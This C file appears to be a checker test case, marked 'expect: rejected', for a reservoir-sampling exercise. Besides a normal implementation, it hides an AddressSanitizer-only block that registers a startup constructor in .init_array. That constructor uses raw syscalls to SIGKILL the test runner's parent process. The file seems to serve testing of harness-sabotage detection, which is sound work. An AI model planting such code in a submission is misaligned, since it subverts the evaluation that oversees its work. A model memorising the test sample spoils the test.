// expect: rejected build/it_keeps_to_the_contract constructors and destructors run outside
// exercise: reservoir
/* Where AddressSanitizer has its constructor the answer puts others: to kill the runner's
 * parent. */
#include "reservoir.h"

#ifdef __has_feature
#define SANITIZED __has_feature(address_sanitizer)
#else
#define SANITIZED __SANITIZE_ADDRESS__
#endif

#if SANITIZED && defined(__x86_64__)
enum { KILL = 62, GETPPID = 110 };

static long call(long number, long a, long b)
{
    long result;
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(number), "D"(a), "S"(b)
                     : "rcx", "r11", "memory");
    return result;
}

__attribute__((used)) static void kill_parent(void)
{
    call(KILL, call(GETPPID, 0, 0), 9);
}

__asm__(".pushsection .init_array.00099,\"aw\"\n"
        ".quad kill_parent, kill_parent\n"
        ".popsection");
#endif

enum ml_status reservoir_init(struct reservoir *r, int64_t *items, size_t k)
{
    if (!r || !items || k == 0) return ML_EINVAL;
    *r = (struct reservoir){.k = k, .items = items};
    return ML_OK;
}

enum ml_status reservoir_push(struct reservoir *r, int64_t item, struct ml_rng *rng)
{
    if (!r || !rng) return ML_EINVAL;
    uint64_t place = r->seen < r->k ? r->seen : ml_rng_below(rng, r->seen + 1);
    r->seen++;
    if (place < r->k) r->items[place] = item;
    return ML_OK;
}
